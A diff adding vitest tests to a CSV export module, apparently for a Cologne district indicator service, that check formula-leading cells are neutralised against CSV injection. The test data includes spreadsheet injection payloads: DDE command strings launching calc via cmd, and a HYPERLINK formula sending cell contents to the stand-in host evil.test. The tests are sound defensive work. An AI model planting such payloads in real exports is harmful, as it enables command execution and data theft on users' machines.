@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { perturbationNote } from '../adapters/indicators.catalogue.js';
+import type { AreaSource, AreaView } from '../sources.js';
+import { koelnAreas } from '../testing/koeln.fixture.js';
 import { testGateway } from '../testing/gateway.fixture.js';
 import { formatCell, toCsv } from './csv.js';
 
@@ -16,6 +18,42 @@ describe('CSV for Excel and Power BI', () => {
     expect(formatCell('say "hi"\n')).toBe('"say ""hi""\n"');
     expect(formatCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
     expect(toCsv(['A', 'B'], [[1.5, 'x']])).toBe('\uFEFFA;B\r\n1,5;x\r\n');
+  });
+
+  it('neutralises formula-leading text cells (OWASP CSV injection)', () => {
+    const payloads = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.test/?x="&A1,"Klick")', '+cmd|x', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '\uFF1D1+1'];
+    for (const p of payloads) {
+      const cell = formatCell(p);
+      // the value as a spreadsheet reads it: unquoted, "" unescaped
+      const value = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
+      expect(value, p).toBe(`'${p}`);
+    }
+    // numbers stay numbers, text that merely contains a sign stays as it is
+    expect(formatCell(-3)).toBe('-3');
+    expect(formatCell('Köln-Mülheim')).toBe('Köln-Mülheim');
+    // a payload cannot open a new cell or row
+    expect(formatCell("x;=cmd|' /C calc'!A0")).toBe(`"x;=cmd|' /C calc'!A0"`);
+  });
+
+  it('neutralises formula names that arrive in exported data (an area named like a formula)', async () => {
+    const base = koelnAreas();
+    const evil = (a: AreaView): AreaView => (a.code === '101' ? { ...a, name: "=cmd|' /C calc'!A0" } : a.code === '102' ? { ...a, name: '=HYPERLINK("https://evil.test","x")' } : a);
+    const areas: AreaSource = {
+      areas: (level) => base.areas(level).map(evil),
+      area: (level, code) => {
+        const a = base.area(level, code);
+        return a && evil(a);
+      },
+      geometry: (level, code) => base.geometry(level, code),
+    };
+    const { get } = testGateway({ areas });
+    const text = await (await get('/export/indicator-values.csv?indicator=einwohner&level=STADTTEIL&period=2012&areas=101,102')).text();
+    const names = text
+      .split('\r\n')
+      .slice(1, 3)
+      .map((l) => l.split(';')[5]);
+    expect(names).toEqual([`'=cmd|' /C calc'!A0`, `"'=HYPERLINK(""https://evil.test"",""x"")"`]);
+    expect(text).not.toMatch(/(^|;|\n)=/);
   });
 
   it('exports indicator values with BOM, German headers, semicolons and decimal comma', async () => {
